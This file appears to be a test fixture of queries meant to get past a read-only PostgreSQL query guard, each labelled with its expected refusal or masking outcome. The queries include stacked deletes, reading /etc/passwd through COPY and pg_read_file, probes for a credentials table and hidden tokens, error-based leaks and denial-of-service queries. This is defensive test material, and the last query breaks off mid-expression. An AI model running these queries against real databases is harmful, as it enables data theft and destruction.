-- Attacks on SQLite, one a paragraph: see refuse.postgresql.sql.

-- statement that is no query | not-a-select,not-supported,syntax
INSERT INTO products VALUES (99, 'x', 'tools', 1, '{}', NULL)

-- statement that is no query | not-a-select,not-supported,syntax
UPDATE customers SET name = 'x'

-- statement that is no query | not-a-select,not-supported,syntax
DELETE FROM orders

-- statement that is no query | not-a-select,not-supported,syntax
MERGE INTO products p USING orders o ON p.id = o.id WHEN MATCHED THEN DELETE

-- statement that is no query | not-a-select,not-supported,syntax
TRUNCATE orders

-- statement that is no query | not-a-select,not-supported,syntax
DROP TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CREATE TABLE t (a int)

-- statement that is no query | not-a-select,not-supported,syntax
CREATE TEMP TABLE t AS SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax
CREATE VIEW v AS SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
ALTER TABLE customers ADD x int

-- statement that is no query | not-a-select,not-supported,syntax
GRANT SELECT ON customers TO public

-- statement that is no query | not-a-select,not-supported,syntax
COPY customers TO STDOUT

-- statement that is no query | not-a-select,not-supported,syntax
COPY customers TO PROGRAM 'cat'

-- statement that is no query | not-a-select,not-supported,syntax
COPY products FROM '/etc/passwd'

-- statement that is no query | not-a-select,not-supported,syntax
SET default_transaction_read_only = off

-- statement that is no query | not-a-select,not-supported,syntax
SET ROLE postgres

-- statement that is no query | not-a-select,not-supported,syntax
RESET ALL

-- statement that is no query | not-a-select,not-supported,syntax
SHOW search_path

-- statement that is no query | not-a-select,not-supported,syntax
SHOW ALL

-- statement that is no query | not-a-select,not-supported,syntax
BEGIN

-- statement that is no query | not-a-select,not-supported,syntax
COMMIT

-- statement that is no query | not-a-select,not-supported,syntax
ROLLBACK

-- statement that is no query | not-a-select,not-supported,syntax
EXPLAIN SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
EXPLAIN ANALYZE SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
ANALYZE customers

-- statement that is no query | not-a-select,not-supported,syntax
VACUUM

-- statement that is no query | not-a-select,not-supported,syntax
LISTEN x

-- statement that is no query | not-a-select,not-supported,syntax
NOTIFY x, 'y'

-- statement that is no query | not-a-select,not-supported,syntax
PREPARE p AS SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax
EXECUTE p

-- statement that is no query | not-a-select,not-supported,syntax
DEALLOCATE ALL

-- statement that is no query | not-a-select,not-supported,syntax
DECLARE c CURSOR FOR SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
FETCH ALL FROM c

-- statement that is no query | not-a-select,not-supported,syntax
LOCK TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CALL p()

-- statement that is no query | not-a-select,not-supported,syntax
DO $$ BEGIN PERFORM 1; END $$

-- statement that is no query | not-a-select,not-supported,syntax
LOAD 'x'

-- statement that is no query | not-a-select,not-supported,syntax
DISCARD ALL

-- statement that is no query | not-a-select,not-supported,syntax
REINDEX TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CHECKPOINT

-- statement that is no query | not-a-select,not-supported,syntax
COMMENT ON TABLE customers IS 'x'

-- statement that is no query | not-a-select,not-supported,syntax
CREATE EXTENSION dblink

-- statement that is no query | not-a-select,not-supported,syntax
SECURITY LABEL ON TABLE customers IS 'x'

-- statement that is no query | not-a-select,not-supported,syntax
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y

-- statement that is no query | not-a-select,not-supported,syntax
TABLE credentials

-- several statements | many-statements,not-a-select,syntax
SELECT 1; SELECT 2

-- several statements | many-statements,not-a-select,syntax
SELECT 1; DELETE FROM orders

-- several statements | many-statements,not-a-select,syntax
COMMIT; DELETE FROM orders

-- several statements | many-statements,not-a-select,syntax
SELECT 1;;SELECT * FROM credentials

-- several statements | many-statements,not-a-select,syntax
SELECT 1; -- x
 SELECT 2

-- several statements | many-statements,not-a-select,syntax
/* x */ COMMIT; SELECT 1

-- several statements | many-statements,not-a-select,syntax
; SELECT 1; SELECT 2

-- hidden or absent name | unknown-name,not-supported
SELECT token FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT c.token FROM customers c

-- hidden or absent name | unknown-name,not-supported
SELECT customers."token" FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM credentials

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM public.credentials

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM customer_mails

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM no_such_table

-- hidden or absent name | unknown-name,not-supported
SELECT no_such_column FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT "hidden col" FROM "Odd Table"

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers WHERE token LIKE 'CANARY%'

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers ORDER BY token

-- hidden or absent name | unknown-name,not-supported
SELECT count(*) FROM customers GROUP BY token

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers JOIN credentials USING (id)

-- hidden or absent name | unknown-name,not-supported
SELECT 1 FROM customers c JOIN orders o ON c.token = o.note

-- hidden or absent name | unknown-name,not-supported
SELECT (SELECT token FROM customers LIMIT 1)

-- hidden or absent name | unknown-name,not-supported
SELECT max(token) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT row_number() OVER (ORDER BY token) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT count(*) FILTER (WHERE token IS NOT NULL) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT CASE WHEN token > 'a' THEN 1 END FROM customers

-- hidden or absent name | unknown-name,not-supported
WITH t AS (SELECT token FROM customers) SELECT * FROM t

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers WHERE EXISTS (SELECT 1 FROM credentials WHERE login = 'x')

-- hidden or absent name | unknown-name,not-supported
SELECT token FROM (SELECT * FROM customers) AS c

-- hidden or absent name | unknown-name,not-supported
SELECT x.password_hash FROM credentials x

-- hidden or absent name | unknown-name,not-supported
SELECT load_kg FROM vehicles

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM company.public.customers

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM postgres.public.customers

-- hidden or absent name | unknown-name
SELECT id FROM customers NATURAL JOIN credentials

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM ONLY customers

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM ONLY (customers)

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT id FROM customers UNION ALL TABLE credentials

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
TABLE customers

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM customers *

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT 1 UNION ALL TABLE credentials

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM (TABLE credentials) AS x

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT pg_catalog.pg_read_file('/etc/passwd')

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT "pg_sleep"(1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT PG_SLEEP(1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT pg_sleep /**/ (1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT customers.spy FROM customers

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT c.spy FROM customers c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT (c).token FROM customers c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT c.pg_sleep FROM products c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT length(c) FROM customers c

-- masked column through an expression | safe
SELECT name || '' FROM customers

-- masked column through an expression | safe
SELECT upper(name) FROM customers

-- masked column through an expression | safe
SELECT substr(name, 1, 40) FROM customers

-- masked column through an expression | safe
SELECT (SELECT max(name) FROM customers)

-- masked column through an expression | safe
SELECT string_agg(name, ',') FROM customers

-- masked column through an expression | safe
SELECT min(name), max(name) FROM customers

-- masked column through an expression | safe
SELECT DISTINCT name FROM customers

-- masked column through an expression | safe
SELECT name FROM customers UNION SELECT phone FROM customers

-- masked column through an expression | safe
SELECT n FROM (SELECT name AS n FROM customers) AS x

-- masked column through an expression | safe
WITH x AS (SELECT name AS n FROM customers) SELECT n FROM x

-- masked column through an expression | safe
WITH x(a) AS (SELECT phone FROM customers) SELECT a FROM x

-- masked column through an expression | safe
SELECT name FROM customers ORDER BY name LIMIT 3

-- masked column through an expression | safe
SELECT first_value(name) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT lag(name) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT coalesce(name, phone) FROM customers

-- masked column through an expression | safe
SELECT CASE WHEN true THEN name END FROM customers

-- masked column through an expression | safe
SELECT nullif(name, '') FROM customers

-- masked column through an expression | safe
SELECT greatest(name, phone) FROM customers

-- masked column through an expression | safe
SELECT format('%s', name) FROM customers

-- masked column through an expression | safe
SELECT concat(name, email, phone, ssn) FROM customers

-- masked column through an expression | safe
SELECT to_tsvector(name) FROM customers

-- masked column through an expression | safe
SELECT quote_literal(name) FROM customers

-- masked column through an expression | safe
SELECT a.name FROM customers a JOIN customers b USING (name)

-- masked column through an expression | safe
SELECT name FROM customers NATURAL JOIN orders

-- masked column through an expression | safe
SELECT body FROM tickets

-- masked column through an expression | safe
SELECT note FROM orders WHERE note IS NOT NULL

-- masked column through an expression | safe
SELECT card_no FROM payments

-- masked column through an expression | safe
SELECT plate FROM vehicles

-- masked column through an expression | safe
SELECT payload FROM events

-- masked column through an expression | safe
SELECT payload ->> 'secret' FROM events

-- masked column through an expression | safe
SELECT salary FROM employees

-- masked column through an expression | safe
SELECT avg(salary) FROM employees

-- masked column through an expression | safe
SELECT name, salary + 0 FROM employees

-- masked column through an expression | safe
SELECT ssn FROM customers

-- masked column through an expression | safe
SELECT min(ssn), max(ssn) FROM customers

-- masked column through an expression | safe
SELECT * FROM customers

-- masked column through an expression | safe
SELECT customers.* FROM customers

-- masked column through an expression | safe
SELECT * FROM customers, orders LIMIT 50

-- masked column through an expression | safe
SELECT birth_date FROM customers

-- masked column through an expression | safe
SELECT birth_date - date '1700-01-01' FROM customers

-- masked column through an expression | safe
SELECT left(name, 100), right(name, 100) FROM customers

-- masked column through an expression | safe
SELECT repeat(name, 3) FROM customers

-- masked column through an expression | safe
SELECT to_char(birth_date, 'YYYY-MM-DD') FROM customers

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE name LIKE '%CANARYname1 %'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE email = 'ada.canarymail1@example1.com'

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE phone LIKE '%CANARYphone%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date = '1800-02-07'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ssn = '00900001013'

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary = 7000011

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE card_no = '4111CANARYcard1'

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload ->> 'secret' = 'CANARYpayload1'

-- guessing behind the mask | no-rows
SELECT id FROM tickets WHERE body LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name ~ 'CANARY'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE position('CANARY' in name) > 0

-- guessing behind the mask | no-rows
SELECT id FROM customers GROUP BY id, name HAVING max(name) LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name IN ('Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name BETWEEN 'Ada CANARYname1 L' AND 'Ada CANARYname1 M'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE strpos(name, 'CANARY') > 0

-- guessing behind the mask | no-rows
SELECT c.id FROM customers c JOIN (VALUES ('Ada CANARYname1 Lovelace')) AS v(n) ON v.n = c.name

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE 'Ada CANARYname1 Lovelace' = ANY (ARRAY[name])

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE CASE WHEN name LIKE '%CANARY%' THEN true ELSE false END

-- guessing behind the mask | no-rows
SELECT count(*) FILTER (WHERE name LIKE '%CANARY%') AS n FROM customers HAVING count(*) FILTER (WHERE name LIKE '%CANARY%') > 0

-- guessing behind the mask | no-rows
SELECT id FROM vehicles WHERE plate LIKE '%CANARY%'

-- error text | safe
SELECT id / (id - id) FROM customers

-- error text | safe
SELECT CAST(phone AS date) FROM customers

-- error text | safe
SELECT 1 / (CASE WHEN birth_date > '1500-01-01' THEN 0 ELSE 1 END) FROM customers

-- error text | safe
SELECT to_date(name, 'YYYY') FROM customers

-- error text | safe
SELECT array_fill(1, ARRAY[id - 1000]) FROM customers

-- error text | safe
SELECT substring(name from 1 for -1) FROM customers

-- error text | safe
SELECT jsonb_path_query(profile, 'strict $.x') FROM customers

-- row filter | european-answers
SELECT id FROM customers WHERE 1 / (CASE WHEN region = 'US' THEN 0 ELSE 1 END) = 1

-- row filter | european-answers
SELECT id FROM customers WHERE CASE WHEN region = 'APAC' THEN (1/0) = 1 ELSE true END

-- row filter | european-no-rows
SELECT id FROM customers WHERE region = 'US'

-- row filter | european-no-rows
SELECT id FROM customers WHERE region IS NULL

-- row filter | european-no-rows
SELECT count(*) FROM customers WHERE region <> 'EU'

-- row filter | european-answers
SELECT c.id FROM customers c WHERE c.region = 'EU' OR true AND c.region = 'US'

-- row filter | european-no-rows
SELECT id FROM customers WHERE NOT (region = 'EU')

-- row filter | european-no-rows
SELECT id FROM customers EXCEPT SELECT id FROM customers WHERE region = 'EU'

-- row filter | european-no-rows
SELECT region FROM customers WHERE region > 'EU'

-- row filter | european-no-rows
SELECT o.id FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE c.id IS NULL

-- lexical | safe
SELECT * FROM customers WHERE id = 1 OR 1=1 -- x

-- lexical | safe
SELECT 0x41

-- lexical | safe
SELECT 0b101

-- lexical | safe
SELECT 0o17

-- lexical | safe
SELECT 1customers

-- lexical | safe
SELECT U&'d\0061t'

-- lexical | safe
SELECT U&"n\0061me" FROM customers

-- lexical | safe
SELECT /*+ SeqScan(c) */ 1 /*! 2 */

-- lexical | safe
SELECT /* /* nested */ token */ id FROM customers

-- lexical | safe
SELECT 1 /* open

-- lexical | safe
SELECT 'open

-- lexical | safe
SELECT $x$open

-- lexical | safe
SELECT "open

-- lexical | safe
SELECT ‮id FROM customers

-- lexical | safe
SELECT i​d FROM customers

-- lexical | safe
SELECT custоmers.id FROM customers

-- lexical | safe
SELECT ＊ FROM customers

-- lexical | safe
SELECT id FROM customers WHERE id=1

-- lexical | safe
SELECT aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa FROM customers

-- lexical | safe
SELECT 1 \; DROP TABLE x

-- lexical | safe
SELECT :name

-- lexical | safe
SELECT @x

-- lexical | safe
SELECT @@version

-- lexical | safe
SELECT #x

-- lexical | safe
SELECT `id` FROM customers

-- lexical | safe
SELECT [id] FROM customers

-- clause or construct | safe
SELECT * FROM customers FOR UPDATE

-- clause or construct | safe
SELECT * FROM customers FOR SHARE

-- clause or construct | safe
SELECT * INTO t FROM customers

-- clause or construct | safe
SELECT * INTO TEMP t FROM customers

-- clause or construct | safe
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x

-- clause or construct | safe
WITH x AS (INSERT INTO products DEFAULT VALUES RETURNING id) SELECT * FROM x

-- clause or construct | safe
WITH x AS (UPDATE orders SET total = 0 RETURNING note) SELECT * FROM x

-- clause or construct | safe
SELECT * FROM customers TABLESAMPLE SYSTEM (10)

-- clause or construct | safe
SELECT * FROM customers AS OF SYSTEM TIME '-1s'

-- clause or construct | safe
SELECT c FROM customers c

-- clause or construct | safe
SELECT row_to_json(c) FROM customers c

-- clause or construct | safe
SELECT to_jsonb(c) ->> 'token' FROM customers c

-- clause or construct | safe
SELECT (c).* FROM customers c

-- clause or construct | safe
SELECT (SELECT c) FROM customers c

-- clause or construct | safe
SELECT count(c) FROM customers c

-- clause or construct | safe
SELECT customers FROM customers

-- clause or construct | safe
SELECT hash_record(c) FROM customers c

-- clause or construct | safe
SELECT xmlforest(name, token) FROM customers

-- clause or construct | safe
SELECT XMLELEMENT(NAME x, name) FROM customers

-- clause or construct | safe
SELECT * FROM customers CONNECT BY id = 1

-- clause or construct | safe
SELECT TOP 5 * FROM customers

-- clause or construct | safe
PIVOT customers ON city

-- clause or construct | safe
FROM customers

-- clause or construct | safe
SELECT * FROM customers QUALIFY row_number() OVER () = 1

-- clause or construct | safe
SELECT * EXCEPT (id) FROM customers

-- clause or construct | safe
SELECT nextval FROM customers_id_seq

-- clause or construct | safe
SELECT last_value FROM customers_id_seq

-- clause or construct | safe
SELECT OPERATOR(pg_catalog.+) 1

-- clause or construct | safe
SELECT 1 OPERATOR(public.+) 2

-- clause or construct | safe
SELECT * FROM json_table('[1]', '$[*]' COLUMNS (a int PATH '$'))

-- clause or construct | safe
SELECT id COLLATE "C" FROM customers

-- clause or construct | safe
SELECT name COLLATE public.x FROM customers

-- resources | safe
SELECT count(*) FROM customers a, customers b, customers c, customers d, orders e

-- resources | safe
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n

-- resources | safe
SELECT repeat('x', 1000000000)

-- resources | safe
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' ~ '(a+)+$b'

-- resources | safe
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- resources | safe
SELECT true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR 